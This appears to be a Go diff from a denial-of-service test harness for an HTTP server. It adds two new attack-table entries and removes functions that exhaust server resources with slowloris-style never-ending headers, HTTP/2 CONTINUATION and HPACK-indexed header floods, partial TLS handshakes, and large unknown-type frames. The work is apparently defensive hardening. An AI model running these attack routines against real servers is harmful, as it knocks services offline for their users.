@@ -410,6 +410,8 @@ func frameAttacks() map[string]attack {
 		"headers that never end":                       {addresses: 3, run: endless("h2", beginHeaders)},
 		"headers that never end, over HTTP/1.1":        {addresses: 3, run: endless("http/1.1", beginText)},
 		"many headers that never end":                  {addresses: 3, run: endless("http/1.1", beginMany)},
+		"headers whose body never comes":               {addresses: 3, run: endless("http/1.1", beginBodies)},
+		"refused headers, unread":                      {addresses: 3, run: endless("h2", beginCookies)},
 		"headers of a byte that never end":             {addresses: 3, run: endless("h2", beginIndexed)},
 		"handshakes that never end":                    {addresses: 3, run: handshakes},
 		"handshakes that never end, with certificates": {addresses: 3, run: certificatesBegun},
@@ -441,140 +443,6 @@ func repeat(write func(w *wire) error) func(context.Context, *wire) error {
 }
 
 func flood(write func(w *wire) error) func(context.Context, *attacker) { return frames(repeat(write)) }
-
-// handshakes opens connections, sends the beginning of a TLS record, and nothing more.
-func handshakes(ctx context.Context, a *attacker) {
-	each := 16 * int(a.addresses)
-	onConnections(ctx, func(ctx context.Context) {
-		for range each {
-			conn, err := a.dial(ctx)
-			if err != nil {
-				a.got("no connection")
-				continue
-			}
-			defer conn.Close()
-			a.got("sent")
-			_, _ = conn.Write([]byte{22, 3, 1, 2})
-		}
-		<-ctx.Done()
-	})
-}
-
-// endless opens connections, begins something over each that never ends, and does so again when
-// the server has ended it.
-func endless(protocol string, begin func(io.Writer, *attacker) error) func(context.Context, *attacker) {
-	return func(ctx context.Context, a *attacker) {
-		each := 16 * int(a.addresses) // As many as they may have.
-		onConnections(ctx, func(ctx context.Context) {
-			var all sync.WaitGroup
-			for range each {
-				all.Go(func() {
-					for ctx.Err() == nil {
-						over(ctx, a, protocol, func(conn net.Conn) {
-							if err := begin(conn, a); err == nil {
-								a.got("begun")
-							}
-							_, _ = io.Copy(io.Discard, conn)
-						})
-					}
-				})
-			}
-			all.Wait()
-		})
-	}
-}
-
-// begunBytes of headers are less than the server ends at once.
-const begunBytes = 320 << 10
-
-// beginHeaders sends the headers of a request but for the last.
-func beginHeaders(conn io.Writer, a *attacker) error {
-	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
-		return err
-	}
-	w := &wire{Framer: http2.NewFramer(conn, nil), attacker: a, stream: 1}
-	if err := w.WriteSettings(); err != nil {
-		return err
-	}
-	const each = 8 << 10
-	if err := w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: w.block(http.MethodGet, menuPath)}); err != nil {
-		return err
-	}
-	for range begunBytes / each {
-		var block bytes.Buffer
-		_ = hpack.NewEncoder(&block).WriteField(hpack.HeaderField{Name: "a", Value: strings.Repeat("b", each), Sensitive: true}) // To memory.
-		if err := w.WriteContinuation(1, false, block.Bytes()); err != nil {
-			return err
-		}
-	}
-	return nil
-}
-
-// beginText does that in HTTP/1.1.
-func beginText(conn io.Writer, _ *attacker) error {
-	_, err := io.WriteString(conn, "GET / HTTP/1.1\r\nHost: localhost\r\nA: "+strings.Repeat("b", begunBytes))
-	return err
-}
-
-// beginMany begins as many headers as fit.
-func beginMany(conn io.Writer, _ *attacker) error {
-	var text bytes.Buffer
-	text.WriteString("GET / HTTP/1.1\r\nHost: localhost\r\n")
-	for n := 0; text.Len() < begunBytes; n++ {
-		fmt.Fprintf(&text, "%x:\r\n", n)
-	}
-	_, err := conn.Write(text.Bytes())
-	return err
-}
-
-// beginIndexed sends headers that take a byte each, since they are in the table of the connection.
-func beginIndexed(conn io.Writer, a *attacker) error {
-	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
-		return err
-	}
-	w := &wire{Framer: http2.NewFramer(conn, nil), attacker: a, stream: 1}
-	if err := w.WriteSettings(); err != nil {
-		return err
-	}
-	if err := w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: w.block(http.MethodGet, menuPath)}); err != nil {
-		return err
-	}
-	var block bytes.Buffer
-	encoder := hpack.NewEncoder(&block)
-	for block.Len() < 9_000 { // Each counts 34 bytes.
-		_ = encoder.WriteField(hpack.HeaderField{Name: "a", Value: "b"})
-	}
-	return w.WriteContinuation(1, false, block.Bytes())
-}
-
-// buffers opens connections, makes the server read a large frame, of a type that it does not
-// know, over each, and leaves them alone.
-func buffers(ctx context.Context, a *attacker) {
-	const (
-		frameBytes = 256 << 10
-		frameType  = 0xf0
-	)
-	each := 16 * int(a.addresses)
-	onConnections(ctx, func(ctx context.Context) {
-		var all sync.WaitGroup
-		for range each {
-			all.Go(func() {
-				framesOver(ctx, a, func(conn net.Conn) { _, _ = io.Copy(io.Discard, conn) }, func(ctx context.Context, w *wire) error {
-					if err := w.WriteSettings(); err != nil {
-						return err
-					}
-					if err := w.WriteRawFrame(frameType, 0, 0, make([]byte, frameBytes)); err != nil {
-						return err
-					}
-					a.got("sent")
-					<-ctx.Done()
-					return nil
-				})
-			})
-		}
-		all.Wait()
-	})
-}
 
 const streams = 100 // of a connection, as many as it may have
 
